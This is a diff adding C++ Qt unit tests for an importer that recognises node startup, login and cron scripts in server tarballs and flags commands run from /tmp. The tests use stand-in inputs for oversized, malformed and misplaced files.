+    QByteArray continued = "/usr/bin/app \\\n";
+    for (int i = 0; i < 100000; ++i)
+        continued += "  --label=team-" + QByteArray::number(i) + " \\\n";
+    continued += "  --last\n/tmp/after\n";
+    const MemoryImport c = runBytes(continued, QStringLiteral("worker-1/etc/rc.local"));
+    QVERIFY(c.result.hasValue());
+    QVERIFY(hasIssue(c.issues, QStringLiteral("node-script.too-long")));
+    QVERIFY(findingLines(c).contains(QStringLiteral("node.script.runs-from-temp@100003")));
+    QByteArray quoted = "echo 'never closed\n";
+    for (int i = 0; i < 20000; ++i)
+        quoted += "line " + QByteArray::number(i) + "\n";
+    const MemoryImport q = runBytes(quoted, QStringLiteral("worker-1/etc/rc.local"));
+    QVERIFY(q.result.hasValue());
+    QVERIFY(hasIssue(q.issues, QStringLiteral("node-script.too-long")));
+
+    // One line of 2 MB: cut by the line reader, the file still read.
+    const QByteArray huge = "echo " + QByteArray(2 * 1024 * 1024, 'x') + "\n/tmp/y\n";
+    const MemoryImport h = runBytes(huge, QStringLiteral("worker-1/etc/rc.local"));
+    QVERIFY(h.result.hasValue());
+    QVERIFY(hasIssue(h.issues, QStringLiteral("node-script.line-too-long")));
+    QCOMPARE(findingLines(h), QStringList{QStringLiteral("node.script.runs-from-temp@2")});
+    QVERIFY(h.out.resources.front().body.size() < 64 * 1024);
+}
+
+void TestNodeScriptImporter::badBytes()
+{
+    // NUL bytes and invalid UTF-8 in a script forced on the importer: read as
+    // text, repaired, the rest judged.
+    const QByteArray bytes = QByteArray("echo a\0b\n", 9) + "echo \xff\xfe\n/tmp/x\n";
+    const MemoryImport m = runBytes(bytes, QStringLiteral("worker-1/etc/rc.local"));
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(findingLines(m), QStringList{QStringLiteral("node.script.runs-from-temp@3")});
+    QVERIFY(hasIssue(m.issues, QStringLiteral("node-script.bad-encoding")));
+    QVERIFY(QJsonDocument::fromJson(m.out.resources.front().body.toUtf8()).isObject());
+    for (const Finding& f : m.out.findings)
+        QVERIFY(isValidUtf8(f.detail.toStdString()));
+}
+
+void TestNodeScriptImporter::cancels()
+{
+    NodeScriptImporter importer;
+    qint64 seen = 0;
+    QVERIFY(cancelsPromptly(importer, "/tmp/x --run\n", 300000, &seen));
+}
+
+void TestNodeScriptImporter::nodeFromThePath()
+{
+    for (const char* path : {"worker-1/etc/rc.local", "worker-1/etc/rc.d/rc.local", "worker-1/etc/profile.d/x.sh",
+                             "worker-1/etc/cron.daily/logrotate", "worker-1/etc/update-motd.d/00-header",
+                             "worker-1/home/alice/.bashrc", "worker-1/root/.profile", "worker-1/etc/zsh/zshrc"}) {
+        const QString p = QStringLiteral("nodes.tar.gz/") + QLatin1String(path);
+        QCOMPARE(LogLayout::recognize(p).node, QStringLiteral("worker-1"));
+    }
+
+    // Through an import of two nodes' tarball: each script found by where it
+    // lies, under its node; other shell scripts, a copy in /etc/skel, a python
+    // motd script, a placeholder and a package's backup are nobody's.
+    QVector<QPair<QString, QByteArray>> members;
+    QStringList expected;
+    for (const auto& [tree, node] : {std::pair{QStringLiteral("ubuntu"), QStringLiteral("worker-1")},
+                                     std::pair{QStringLiteral("intruded"), QStringLiteral("worker-2")}}) {
+        for (const QString& f : treeFiles(tree)) {
+            const QString onNode = f.section(QLatin1Char('/'), 1);
+            members.push_back({node + QLatin1Char('/') + onNode, fixture(f)});
+            expected << node + QLatin1Char('/') + onNode;
+        }
+    }
+    const QByteArray skel = fixture(QStringLiteral("ubuntu/home/ubuntu/.bashrc"));
+    members.push_back({QStringLiteral("worker-1/etc/skel/.bashrc"), skel});
+    members.push_back({QStringLiteral("worker-1/usr/local/bin/backup.sh"), "#!/bin/bash\n/tmp/x\n"});
+    members.push_back({QStringLiteral("worker-1/etc/update-motd.d/91-release-upgrade"),
+                       "#!/usr/bin/python3\nimport os\nos.system('/tmp/x')\n"});
+    members.push_back({QStringLiteral("worker-1/etc/cron.daily/.placeholder"), "# DO NOT EDIT OR REMOVE\n"});
+    members.push_back({QStringLiteral("worker-1/etc/cron.daily/logrotate.dpkg-old"), "#!/bin/sh\n/tmp/x\n"});
+    const ImportedResources imported = importTarball(members);
+    QVERIFY2(imported.error.isEmpty(), qPrintable(imported.error));
+    QCOMPARE(imported.resources, expected.size());
+    expected.sort();
+    QCOMPARE(imported.names(QStringLiteral("NodeScript")), expected);
+    QCOMPARE(
+        imported.bodies.value(QStringLiteral("worker-2/home/deploy/.bashrc")).value(QStringLiteral("owner")).toString(),
+        QStringLiteral("deploy"));
+    QCOMPARE(imported.findings, 7);
+}
+
+void TestNodeScriptImporter::sniff_data()
+{
+    QTest::addColumn<QByteArray>("head");
+    QTest::addColumn<QString>("path");
+    QTest::addColumn<QString>("kind"); // the importer the registry picks, "" for none
+    const QString script = QStringLiteral("node-script");
+    const QStringList files = treeFiles(QStringLiteral("ubuntu")) + treeFiles(QStringLiteral("intruded"));
+    for (const QString& f : files) {
+        const QString onNode = f.section(QLatin1Char('/'), 1);
+        QTest::addRow("%s", qPrintable(f))
+            << fixture(f) << QStringLiteral("worker-1.tar.gz/worker-1/") + onNode << script;
+        // The same text anywhere else, or its name alone, is nobody's.
+        QTest::addRow("%s, name alone", qPrintable(f))
+            << fixture(f) << onNode.section(QLatin1Char('/'), -1) << QString();
+        QTest::addRow("%s, elsewhere", qPrintable(f))
+            << fixture(f) << QStringLiteral("worker-1/opt/app/") + onNode.section(QLatin1Char('/'), -1) << QString();
+    }
+    const QByteArray sh = "#!/bin/sh\necho hi\n";
+    QTest::newRow("rc.d") << sh << "worker-1/etc/rc.d/rc.local" << script;
+    QTest::newRow("root's .profile") << sh << "worker-1/root/.profile" << script;
+    QTest::newRow("a user's .bash_logout") << sh << "home/alice/.bash_logout" << script;
+    QTest::newRow("a user's .zshrc") << sh << "worker-1/home/alice/.zshrc" << script;
+    QTest::newRow("cron.weekly") << sh << "worker-1/etc/cron.weekly/fstrim" << script;
+    QTest::newRow("cron.monthly") << sh << "worker-1/etc/cron.monthly/x" << script;
+    QTest::newRow("env bash") << QByteArray("#!/usr/bin/env bash\necho hi\n") << "etc/cron.daily/x" << script;
+    QTest::newRow("no shebang") << QByteArray("echo hi\n") << "etc/update-motd.d/99-x" << script;
+    QTest::newRow("a shell script elsewhere") << sh << "worker-1/usr/local/bin/backup.sh" << QString();
+    QTest::newRow("etc/skel") << sh << "worker-1/etc/skel/.bashrc" << QString();
+    QTest::newRow("python motd") << QByteArray("#!/usr/bin/python3\nprint('hi')\n")
+                                 << "worker-1/etc/update-motd.d/91-release-upgrade" << QString();
+    QTest::newRow("perl in cron.daily") << QByteArray("#!/usr/bin/perl -w\nprint 1;\n") << "etc/cron.daily/x"
+                                        << QString();
+    QTest::newRow("a placeholder") << QByteArray("# DO NOT EDIT OR REMOVE\n") << "worker-1/etc/cron.daily/.placeholder"
+                                   << QString();
+    QTest::newRow("a package's backup") << sh << "worker-1/etc/cron.daily/logrotate.dpkg-old" << QString();
+    QTest::newRow("profile.d's csh") << sh << "worker-1/etc/profile.d/vte.csh" << QString();
+    QTest::newRow("a hidden file in a home") << sh << "worker-1/home/alice/.bash_history" << QString();
+    QTest::newRow("binary at rc.local") << QByteArray("\x7f"
+                                                      "ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0",
+                                                      16)
+                                        << "worker-1/etc/rc.local" << QString();
+    QTest::newRow("empty") << QByteArray() << "worker-1/etc/rc.local" << QString();
+    // A place of another node file stays that importer's.
+    QTest::newRow("crontab") << fixture(QStringLiteral("../cron/crontab")) << "worker-1/etc/crontab"
+                             << QStringLiteral("cron");
+}
+
+void TestNodeScriptImporter::sniff()
+{
+    QFETCH(QByteArray, head);
+    QFETCH(QString, path);
+    QFETCH(QString, kind);
+    QCOMPARE(NodeScriptImporter().sniff(head.left(ImportSource::kHeadSize)), Confidence::No);
+    QCOMPARE(chosenKind(head, path), kind);
+}
+
+void TestNodeScriptImporter::fuzz()
+{
+    NodeScriptImporter importer;
+    QVERIFY(fuzzImporter(importer, fuzzIterations(), 0x6e73) > 0);
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/etc/rc.local"), 0x6e74));
+    QVERIFY(fuzzNodeFile(importer, QStringLiteral("worker-1/home/alice/.bashrc"), 0x6e75));
+}
+
+QTEST_GUILESS_MAIN(TestNodeScriptImporter)
+#include "TestNodeScriptImporter.moc"
